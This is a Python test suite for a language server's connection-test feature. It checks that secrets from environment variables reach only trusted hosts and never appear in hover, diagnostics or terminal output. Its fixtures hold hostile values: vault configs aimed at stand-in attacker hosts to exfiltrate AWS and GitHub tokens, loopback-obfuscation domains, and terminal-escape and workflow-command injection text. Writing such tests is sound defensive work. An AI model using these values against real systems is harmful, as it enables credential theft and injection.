"""Issue 12: credentials go only to hosts the user trusts. The canary is an environment
variable of the server process; a recording proxy (HTTPS_PROXY) sees every host flowls tries
to reach, so "nothing was sent" is observed."""

import contextlib
import json
import subprocess

import pytest
from lsprotocol import types as t

from conftest import BIN, start
from recording_proxy import RecordingProxy
from test_tenant import VAULT

CANARY = "canary-AKIA-5f3e9c1d7b"


def vault(ws, domain, secret="##AWS_SECRET_ACCESS_KEY##"):
    (ws / VAULT).write_text(json.dumps({
        "name": "Users M2M", "app_id": "AUTH0",
        "setup": {"type": "OAUTH_APP", "client_id": "Flows M2M", "client_secret": secret, "domain": domain},
    }, indent=2))


@pytest.fixture
def proxy():
    p = RecordingProxy()
    yield p
    p.close()


def env(proxy):
    return {"AWS_SECRET_ACCESS_KEY": CANARY, "GITHUB_TOKEN": CANARY + "gh", "HTTPS_PROXY": proxy.url,
            "HTTP_PROXY": proxy.url, "NO_PROXY": "", "RUST_LOG": "trace"}


@contextlib.asynccontextmanager
async def session(workspace, proxy, answer, settings=None):
    """A VS Code session that answers window/showMessageRequest with `answer` (None: dismissed)."""
    s = await start("vscode", workspace, init_options={"testConnection": {"timeoutSeconds": 3, **(settings or {})}}, env=env(proxy))
    s.asked = []

    @s.client.feature(t.WINDOW_SHOW_MESSAGE_REQUEST)
    def _ask(params: t.ShowMessageRequestParams):
        s.asked.append(params)
        return None if answer is None else t.MessageActionItem(title=answer)

    try:
        await s.indexed()
        yield s
    finally:
        await s.client.shutdown_session()
        await s.client.stop()


async def run_test_connection(s):
    return await s.client.workspace_execute_command_async(
        t.ExecuteCommandParams(command="flowls.testConnection", arguments=[{"uri": s.uri(VAULT)}]))


@pytest.mark.parametrize("answer", ["Cancel", None])
async def test_an_untrusted_host_gets_nothing_unless_the_user_says_send(workspace, proxy, answer):
    vault(workspace, "collector.attacker.example")
    async with session(workspace, proxy, answer) as s:
        r = await run_test_connection(s)
        assert r["ok"] is False and r["error"] == "cancelled", r
        assert proxy.hosts == []
        [asked] = s.asked
        assert asked.type == t.MessageType.Warning
        assert "collector.attacker.example" in asked.message and "AWS_SECRET_ACCESS_KEY" in asked.message
        assert [a.title for a in asked.actions] == ["Send", "Cancel"]
        assert CANARY not in json.dumps(r) + asked.message


async def test_after_send_the_request_goes_out(workspace, proxy):
    vault(workspace, "login.example.com")
    async with session(workspace, proxy, "Send") as s:
        r = await run_test_connection(s)
        assert r["ok"] is False, r  # the proxy refuses, but the attempt was made
        assert proxy.hosts == ["login.example.com:443"], proxy.hosts
        assert CANARY not in json.dumps(r)


async def test_a_host_built_from_the_environment_is_never_shown_nor_resolved(workspace, proxy):
    vault(workspace, "##GITHUB_TOKEN##.attacker.example")
    async with session(workspace, proxy, "Cancel") as s:
        r = await run_test_connection(s)
        assert r["error"] == "cancelled" and proxy.hosts == []
        [asked] = s.asked
        assert "##GITHUB_TOKEN##.attacker.example (environment)" in asked.message, asked.message
        assert "GITHUB_TOKEN" in asked.message and CANARY not in asked.message + json.dumps(r)


@pytest.mark.parametrize("domain", ["user:pw@127.0.0.1:9101", "127.0.0.1:9101/evil?x=", "[::1]@evil.example",
                                    "10.1.2.3", "evil.example:8443", "https://x.auth0.com", "x.auth0.com/p",
                                    # issue 20.4: what a URL parser reads as 127.0.0.1
                                    "0x7f000001", "2130706433", "0177.0.0.1", "127.1", "evil.example.0x7f"])
async def test_a_domain_that_is_not_a_bare_host_sends_nothing(workspace, proxy, domain):
    vault(workspace, domain)
    async with session(workspace, proxy, "Send", settings={"allowHttpLoopback": True}) as s:
        diags = await s.diagnostics(s.uri(VAULT), until=lambda d: any(x.code == "vault-setup" for x in d))
        assert any(x.code == "vault-setup" for x in diags)
        r = await run_test_connection(s)
        assert r["error"] == "invalid_setup", r
        assert proxy.hosts == [] and s.asked == []


async def test_trusted_hosts_are_reached_without_asking(workspace, proxy):
    # *.auth0.com unasked only for values written in the repository; a host the user named
    # also for values from the environment
    for domain, secret, settings, expect in [
            ("my-tenant.us.auth0.com", "literal-in-the-repository", {}, "my-tenant.us.auth0.com:443"),
            ("login.example.com", "##AWS_SECRET_ACCESS_KEY##", {"trustedHosts": ["*.example.com"]}, "login.example.com:443"),
            ("my-tenant.us.auth0.com", "##AWS_SECRET_ACCESS_KEY##", {"trustedHosts": ["my-tenant.us.auth0.com"]},
             "my-tenant.us.auth0.com:443")]:
        vault(workspace, domain, secret)
        proxy.hosts.clear()
        async with session(workspace, proxy, "Cancel", settings=settings) as s:
            r = await run_test_connection(s)
            assert proxy.hosts == [expect], (domain, proxy.hosts)
            assert s.asked == [] and CANARY not in json.dumps(r)


@pytest.mark.parametrize("answer", ["Cancel", None])
async def test_values_from_the_environment_go_to_an_auth0_tenant_only_when_named(workspace, proxy, answer):
    """Issue 20.2: anyone can own `attacker.us.auth0.com`; a repository with
    `"client_id": "##GITHUB_TOKEN##"` and that domain got the token on one click."""
    (workspace / VAULT).write_text(json.dumps({
        "name": "Users M2M", "app_id": "AUTH0",
        "setup": {"type": "OAUTH_APP", "client_id": "##GITHUB_TOKEN##", "client_secret": "literal-secret",
                  "domain": "attacker.us.auth0.com"}}, indent=2))
    async with session(workspace, proxy, answer) as s:
        r = await run_test_connection(s)
        assert r["ok"] is False and r["error"] == "cancelled", r
        assert proxy.hosts == [], proxy.hosts
        [asked] = s.asked
        assert asked.type == t.MessageType.Warning
        assert "attacker.us.auth0.com" in asked.message and "GITHUB_TOKEN" in asked.message, asked.message
        assert [a.title for a in asked.actions] == ["Send", "Cancel"]
        assert "GITHUB_TOKEN" in r["error_description"], r
        assert CANARY not in json.dumps(r) + asked.message
    # the command line refuses it unless --trust-host names the host
    e = {**__import__("os").environ, **env(proxy)}
    p = subprocess.run([BIN, "test-connection", str(workspace / VAULT), "--timeout-seconds", "3"], env=e,
                       capture_output=True, text=True, timeout=30)
    assert p.returncode == 2 and "untrusted_host" in p.stdout + p.stderr, p.stdout + p.stderr
    assert "GITHUB_TOKEN" in p.stdout and proxy.hosts == [] and CANARY not in p.stdout + p.stderr
    p = subprocess.run([BIN, "test-connection", str(workspace / VAULT), "--timeout-seconds", "3", "--format", "json",
                        "--trust-host", "attacker.us.auth0.com"], env=e, capture_output=True, text=True, timeout=30)
    assert proxy.hosts == ["attacker.us.auth0.com:443"], (proxy.hosts, p.stdout)
    assert CANARY not in p.stdout + p.stderr


def test_the_cli_refuses_an_untrusted_host_unless_named(workspace, proxy):
    vault(workspace, "collector.attacker.example")
    e = {**__import__("os").environ, **env(proxy)}
    p = subprocess.run([BIN, "test-connection", str(workspace / VAULT), "--timeout-seconds", "3"], env=e,
                       capture_output=True, text=True, timeout=30)
    assert p.returncode == 2, p.stdout + p.stderr
    assert "untrusted_host" in p.stdout or "not a trusted host" in p.stdout, p.stdout
    assert proxy.hosts == [] and CANARY not in p.stdout + p.stderr
    p = subprocess.run([BIN, "test-connection", str(workspace / VAULT), "--timeout-seconds", "3",
                        "--trust-host", "collector.attacker.example"], env=e, capture_output=True, text=True, timeout=30)
    assert proxy.hosts == ["collector.attacker.example:443"], (proxy.hosts, p.stdout)
    assert CANARY not in p.stdout + p.stderr


async def test_a_tenant_that_echoes_the_secret_into_scope_shows_it_nowhere(workspace):
    """Issue 12.3: an echo in `scope` reached showMessage, the result, `excess-scope` and hover."""
    from fake_tenant import Tenant
    from test_tenant import tenant_workspace

    tenant = Tenant()
    tenant.mode = "echo_scope"
    tenant_workspace(workspace)
    s = await start("vscode", workspace, init_options={"testConnection": {"allowHttpLoopback": True, "timeoutSeconds": 3}},
                    env={"USERS_M2M_SECRET": CANARY, "TENANT_DOMAIN": tenant.domain})
    try:
        await s.indexed()
        r = await run_test_connection(s)
        assert r["ok"] is True and "read:users" in r["granted_scopes"], r
        await __import__("asyncio").sleep(0.5)
        vault_text = s.text(VAULT)
        hover = await s.client.text_document_hover_async(t.HoverParams(
            text_document=t.TextDocumentIdentifier(uri=s.uri(VAULT)), position=s.position(vault_text, vault_text.index("Users M2M"))))
        lens = await s.client.text_document_code_lens_async(t.CodeLensParams(text_document=t.TextDocumentIdentifier(uri=s.uri(VAULT))))
        seen = json.dumps(r) + repr(s.client.messages) + repr(s.client.diagnostics) + repr(hover) + repr(lens)
        assert CANARY not in seen
        assert "Flows M2M" not in json.dumps(r["granted_scopes"])  # the client id echoed is no scope either
    finally:
        await s.client.shutdown_session()
        await s.client.stop()
        tenant.close()


async def test_values_from_the_environment_are_never_displayed(workspace):
    """Issue 12.4: a domain or audience built from `##VAR##` showed the variable's value in
    hover, inlay hints and the DNS and `access_denied` messages."""
    from fake_tenant import Tenant
    from test_tenant import FLOW

    tenant = Tenant()
    tenant.mode = "no_grant"
    audience = "https://aud-canary-7c1.example/api/"
    (workspace / VAULT).write_text(json.dumps({
        "name": "Users M2M", "app_id": "AUTH0",
        "setup": {"type": "OAUTH_APP", "client_id": "Flows M2M", "client_secret": "##SECRET##",
                  "domain": "##TENANT_DOMAIN##", "audience": "##AUDIENCE##"}}, indent=2))
    env = {"SECRET": CANARY, "TENANT_DOMAIN": tenant.domain, "AUDIENCE": audience}
    s = await start("vscode", workspace, init_options={"testConnection": {"allowHttpLoopback": True, "timeoutSeconds": 3}}, env=env)
    try:
        await s.indexed()
        flow_text = s.text(FLOW)
        flow = s.open(FLOW, flow_text)
        at = s.position(flow_text, flow_text.index("Users M2M") + 1)
        doc = t.TextDocumentIdentifier(uri=flow)
        hover = await s.client.text_document_hover_async(t.HoverParams(text_document=doc, position=at))
        end = s.position(flow_text, len(flow_text))
        hints = await s.client.text_document_inlay_hint_async(t.InlayHintParams(
            text_document=doc, range=t.Range(start=t.Position(line=0, character=0), end=end)))
        completion = await s.client.text_document_completion_async(t.CompletionParams(
            text_document=doc, position=s.position(flow_text, flow_text.index("Users M2M"))))
        r = await run_test_connection(s)
        assert r["error"] == "access_denied", r
        assert "##AUDIENCE## (environment)" in r["error_description"], r
        shown = repr(hover) + repr(hints) + repr(completion) + json.dumps(r) + repr(s.client.messages) + repr(s.client.diagnostics)
        assert "##TENANT_DOMAIN## (environment)" in repr(hover) + repr(hints), (hover, hints)
        for value in [tenant.domain, audience, CANARY]:
            assert value not in shown, value
    finally:
        await s.client.shutdown_session()
        await s.client.stop()
        tenant.close()
    # the DNS message of a trusted host built from the environment
    (workspace / VAULT).write_text(json.dumps({
        "name": "Users M2M", "app_id": "AUTH0",
        "setup": {"type": "OAUTH_APP", "client_id": "Flows M2M", "client_secret": "##SECRET##", "domain": "##TENANT_DOMAIN##"}}))
    s = await start("vscode", workspace, init_options={"testConnection": {"timeoutSeconds": 3, "trustedHosts": ["*.invalid"]}},
                    env={"SECRET": CANARY, "TENANT_DOMAIN": "dns-canary-3b9.invalid"})
    try:
        await s.indexed()
        r = await run_test_connection(s)
        assert r["error"] == "dns", r
        assert "##TENANT_DOMAIN## (environment)" in r["error_description"]
        assert "dns-canary-3b9" not in json.dumps(r) + repr(s.client.messages)
    finally:
        await s.client.shutdown_session()
        await s.client.stop()


def test_a_client_that_cannot_ask_sends_nothing(workspace, proxy):
    """A client that does not support window/showMessageRequest: `untrusted_host`, nothing sent."""
    from test_robustness import Raw

    vault(workspace, "collector.attacker.example")
    s = Raw(workspace, env=env(proxy))
    s.on_request = lambda m: ({"jsonrpc": "2.0", "id": m["id"], "error": {"code": -32601, "message": "no such method"}}
                              if m["method"] == "window/showMessageRequest" else {"jsonrpc": "2.0", "id": m["id"], "result": None})
    try:
        s.initialize()
        r = s.request("workspace/executeCommand", {"command": "flowls.testConnection", "arguments": [{"uri": (workspace / VAULT).as_uri()}]})
        assert r["result"]["error"] == "untrusted_host", r
        assert proxy.hosts == []
    finally:
        s.close()
    assert CANARY.encode() not in s.stderr


@pytest.mark.parametrize("profile", ["vscode", "pull"])
async def test_a_connection_id_from_the_environment_is_never_shown(workspace, profile):
    """Issue 20.1: a `connection_id` of `##AWS_SECRET_ACCESS_KEY##` that resolves to no
    connection showed the variable's value in the pushed and pulled diagnostics and the code
    actions that echo them."""
    flow = "flows/Leak.json"
    (workspace / flow).write_text(json.dumps({"name": "Leak", "actions": [
        {"id": "a", "type": "AUTH0", "action": "GET_USER",
         "params": {"connection_id": "##AWS_SECRET_ACCESS_KEY##", "user_id": "u"}},
        {"id": "b", "type": "AUTH0", "action": "SEND_REQUEST",
         "params": {"connection_id": "Users M2M", "method": "##GITHUB_TOKEN##", "pathname": "/api/v2/users"}},
    ]}, indent=2))
    s = await start(profile, workspace, env={"AWS_SECRET_ACCESS_KEY": CANARY, "GITHUB_TOKEN": CANARY + "gh"})
    try:
        text = s.text(flow)
        uri = s.open(flow, text)  # before the scan ends, as an impatient client does
        diags = await s.diagnostics(uri, until=lambda d: any(x.code == "unresolved-connection" for x in d))
        found = next(x for x in diags if x.code == "unresolved-connection")
        assert "##AWS_SECRET_ACCESS_KEY## (environment)" in found.message, found.message
        actions = await s.client.text_document_code_action_async(t.CodeActionParams(
            text_document=t.TextDocumentIdentifier(uri=uri), range=found.range,
            context=t.CodeActionContext(diagnostics=diags)))
        hover = await s.client.text_document_hover_async(t.HoverParams(
            text_document=t.TextDocumentIdentifier(uri=uri), position=found.range.start))
        shown = repr(diags) + repr(actions) + repr(hover) + repr(s.client.diagnostics) + repr(s.client.messages)
        if s.pull:
            report = await s.client.workspace_diagnostic_async(t.WorkspaceDiagnosticParams(previous_result_ids=[]))
            shown += repr(report)
            assert "unresolved-connection" in repr(report)
        assert CANARY.lower() not in shown.lower()
    finally:
        await s.client.shutdown_session()
        await s.client.stop()


@pytest.mark.parametrize("mode", ["echo_encoded", "echo_encoded_scope"])
async def test_a_tenant_that_echoes_the_secret_in_any_encoding_shows_it_nowhere(workspace, mode):
    """Issue 20.3: an echo of the posted form showed the secret percent-encoded whenever it held
    `+ / = space`; a percent-encoded copy in `scope` passed into `granted_scopes`; a base64 copy
    passed; a client id that is a prefix of the secret left the secret's tail visible."""
    from fake_tenant import Tenant

    tenant = Tenant()
    tenant.mode = mode
    client_id = "cnry-client-1d"
    secret = client_id + "+tail/of=the secret"
    (workspace / VAULT).write_text(json.dumps({
        "name": "Users M2M", "app_id": "AUTH0",
        "setup": {"type": "OAUTH_APP", "client_id": "##CID##", "client_secret": "##SECRET##",
                  "domain": "##TENANT_DOMAIN##"}}, indent=2))
    s = await start("vscode", workspace, init_options={"testConnection": {"allowHttpLoopback": True, "timeoutSeconds": 3}},
                    env={"CID": client_id, "SECRET": secret, "TENANT_DOMAIN": tenant.domain})
    try:
        await s.indexed()
        r = await run_test_connection(s)
        assert tenant.requests, "the request reached the tenant"
        if mode == "echo_encoded":
            assert r["error"] == "invalid_client", r
            assert "posted:" in r["error_description"], r
        else:
            assert r["ok"] is True and r["granted_scopes"] == ["read:users", "update:users"], r
        await __import__("asyncio").sleep(0.3)
        seen = json.dumps(r) + repr(s.client.messages) + repr(s.client.diagnostics)
        for part in ["cnry", "tail", "dGFpbC9v", "Y25yeS1jbGllbnQtMW"]:
            assert part not in seen, (part, seen)
    finally:
        await s.client.shutdown_session()
        await s.client.stop()
        tenant.close()


@pytest.mark.parametrize("fmt", ["human", "json"])
def test_a_tenant_text_reaches_the_terminal_escaped(workspace, fmt):
    """Issue 20.5: `error` / `error_description` kept ESC, BEL, CR and U+009B in the human
    output, an embedded `\\n::error file=x::pwned` started a GitHub workflow command, and
    U+009B was not escaped in JSON."""
    from fake_tenant import Tenant
    from test_tenant import tenant_workspace

    tenant = Tenant()
    tenant.mode = "hostile_text"
    tenant_workspace(workspace)
    try:
        e = {**__import__("os").environ, "USERS_M2M_SECRET": CANARY, "TENANT_DOMAIN": tenant.domain}
        p = subprocess.run([BIN, "test-connection", str(workspace / VAULT), "--allow-http-loopback", "--timeout-seconds", "3",
                            "--format", fmt], env=e, capture_output=True, timeout=30)
        out = p.stdout.decode() + p.stderr.decode()
        assert tenant.requests and "pwned" in out, out
        for bad in ["\x1b", "\x07", "\r", "\x9b", "\u202e"]:
            assert bad not in out, (bad, out)
        assert not any(line.startswith("::") for line in out.splitlines()), out
        if fmt == "json":
            r = json.loads(p.stdout)
            assert r["error"].startswith("invalid_client"), r
    finally:
        tenant.close()


async def test_an_unquoted_marker_is_a_value_from_the_environment_too(workspace, proxy):
    """An unquoted `##KEY##` (a marker outside a string) was not counted as a value from the
    environment: a *.auth0.com host got it without a question, and hover showed a domain from a
    whole-setup marker."""
    (workspace / VAULT).write_text(
        '{ "name": "Users M2M", "app_id": "AUTH0", "setup": { "type": "OAUTH_APP", "client_id": "cid-literal", '
        '"client_secret": ##AWS_SECRET_ACCESS_KEY##, "domain": "attacker.us.auth0.com" } }')
    async with session(workspace, proxy, "Cancel") as s:
        r = await run_test_connection(s)
        assert r["error"] == "cancelled" and proxy.hosts == [], (r, proxy.hosts)
        [asked] = s.asked
        assert "AWS_SECRET_ACCESS_KEY" in asked.message and CANARY not in asked.message + json.dumps(r)
